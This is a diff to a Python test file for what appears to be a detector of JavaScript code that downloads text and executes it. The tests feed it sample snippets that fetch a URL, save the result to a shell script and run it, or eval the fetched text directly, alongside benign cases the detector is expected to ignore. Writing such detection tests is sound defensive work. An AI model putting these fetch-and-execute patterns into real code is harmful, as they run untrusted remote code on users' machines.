@@ -39,10 +39,18 @@ RUN = {
     "shell": f'const s = await fetch("{URL}");\nchild_process.execSync(s);',
 }
 
+FILES = {
+    "file": f'const s = await fetch("{URL}"); writeFileSync("/tmp/a.sh", s); execSync("sh /tmp/a.sh");',
+    "named file": f'const s = await fetch("{URL}"); fs.writeFileSync(target, s); spawn("sh", [target]);',
+}
+
 LEFT = {
     "constant": 'fetch(u); new Function("a", "return a + 1");',
     "data in a call": "const a = await fetch(u); const f = new Function('n', 'return n'); f(a);",
     "a regular expression": "const a = await fetch(u); /x/.exec(a);",
+    "a picture is changed": (
+        "const s = await fetch(u); writeFileSync(image, s); execFile('convert', [image, 'x.png']);"
+    ),
     "an argument": "const a = await fetch(u); execSync(`git clone ${a.url}`);",
     "nothing fetched": "const a = read(); eval(a);",
     "a member of that name": "const a = await fetch(u); metric.eval(a);",
@@ -62,6 +70,19 @@ def test_fetched_text_is_run(source):
 @pytest.mark.parametrize("source", LEFT.values(), ids=LEFT)
 def test_other_code_is_left_alone(source):
     assert acts_of(source) == []
+
+
+@pytest.mark.parametrize("source", FILES.values(), ids=FILES)
+def test_a_fetched_file_is_run(source):
+    found = acts_of(source)
+    assert [act.fields["PipedFrom"] for act in found] == ["fetch"]
+
+
+def test_a_one_liner():
+    assert [fields["CommandLine"] for fields in javascript.runs(RUN["in one"])] == [
+        f'eval(await (await fetch("{URL}")).text())'
+    ]
+    assert javascript.runs("1 + 1") == []
 
 
 def test_the_act_stands_at_the_call():
